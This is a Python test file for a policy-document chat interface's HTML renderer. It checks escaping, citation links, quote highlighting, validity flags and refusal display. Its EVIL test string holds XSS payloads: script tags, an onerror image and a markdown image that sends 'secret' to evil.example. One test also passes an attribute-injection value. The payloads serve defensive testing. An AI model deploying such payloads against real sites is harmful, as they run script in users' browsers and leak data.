"""The chat's HTML: model and document text can never become markup; only real citation numbers are linked."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from service.answers import Citation
from ui.render import Turn, link_markers, render_chat, render_source

EVIL = '<img src=x onerror=alert(1)> ![](http://evil.example/?q=secret) <script>alert(2)</script> ]]> "quoted"'


def _citation(n: int = 1, quote: str = "每人每月1050元", **kw: str) -> Citation:
    values = {"doc": "dibao.txt", "title": "低保办法", "doc_number": "临政规〔2024〕3号", "issued": "2024-02-05",
              "validity": "现行有效", "heading": "第八条", "quote": quote, "start": 10, "end": 19, "chunk_id": "c1"}
    values.update(kw)
    return Citation(n=n, **values)  # type: ignore[arg-type]


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend(name for name, _ in attrs)


def _parse(html: str) -> Tags:
    parser = Tags()
    parser.feed(html)
    return parser


def test_hostile_text_everywhere_renders_inert() -> None:
    citation = _citation(quote=EVIL, title=EVIL, heading=EVIL, doc=EVIL, doc_number=EVIL)
    turn = Turn(question=EVIL, answer=EVIL + "[1]", citations=[citation], done=True, answer_id='x" onclick="y',
                passages={1: (EVIL, EVIL, EVIL)})
    html = render_chat([turn])
    parsed = _parse(html)
    assert not {"img", "script", "iframe", "object", "embed", "style"} & set(parsed.tags)
    assert not [a for a in parsed.attrs if a.startswith("on")]
    assert not [v for v in re.findall(r'(?:src|href)="([^"]*)"', html) if "evil" in v]
    assert "&lt;img src=x onerror=alert(1)&gt;" in html  # shown as text, not dropped


def test_only_real_citation_numbers_become_links() -> None:
    html = link_markers("甲[1]。乙[2]。丙[9]。", turn=3, numbers={1, 2})
    assert html.count('class="pa-cite"') == 2
    assert 'href="#pa-src-3-1"' in html and 'href="#pa-src-3-2"' in html
    assert "丙[9]" in html


def test_markers_stay_plain_text_until_the_answer_is_verified() -> None:
    streaming = render_chat([Turn(question="问", answer="甲[1]。", citations=[_citation()], done=False)])
    assert "pa-cite" not in streaming and "AI生成" not in streaming
    done = render_chat([Turn(question="问", answer="甲[1]。", citations=[_citation()], done=True)])
    assert "pa-cite" in done and "AI生成，仅供参考，以原文为准" in done


def test_source_shows_document_details_and_highlights_the_quote_in_its_paragraph() -> None:
    html = render_source(_citation(), turn=0, passage=("第八条 现行标准为", "每人每月1050元", "，按月发放。"))
    assert 'id="pa-src-0-1"' in html
    assert "《低保办法》" in html and "临政规〔2024〕3号" in html and "2024-02-05" in html and "现行有效" in html
    assert '第八条 现行标准为<mark class="pa-quote">每人每月1050元</mark>，按月发放。' in html


def test_repealed_sources_are_flagged_and_unknown_validity_is_said() -> None:
    assert "pa-invalid" in render_source(_citation(validity="已废止"), 0, None)
    unknown = render_source(_citation(validity="未知"), 0, None)
    assert "效力未标注" in unknown and '<mark class="pa-quote">每人每月1050元</mark>' in unknown


def test_refusal_and_error_rendering() -> None:
    refused = render_chat([Turn(question="2030年个税？", answer="未在已收录的政策文件中找到…", refused=True, done=True)])
    assert "pa-refused" in refused and "pa-sources" not in refused
    failed = render_chat([Turn(question="问", error="服务暂时不可用")])
    assert 'role="alert"' in failed and "服务暂时不可用" in failed
    assert "请勿在问题中填写身份证号" in render_chat([])


def test_titles_already_in_book_marks_are_not_wrapped_twice() -> None:
    html = render_source(_citation(title="《临江区最低生活保障审核确认办法》政策解读"), 0, None)
    assert "《临江区最低生活保障审核确认办法》政策解读" in html and "《《" not in html
    assert "《低保办法》" in render_source(_citation(), 0, None)


def test_notice_is_shown_escaped_above_the_answer() -> None:
    html = render_chat([Turn(question="问", answer="甲[1]。", citations=[_citation()], done=True,
                             notice="模型暂不可用<b>，以下为原文摘录")])
    assert '<p class="pa-notice" role="note">模型暂不可用&lt;b&gt;，以下为原文摘录</p>' in html
    assert html.index("pa-notice") < html.index("pa-answer-text")
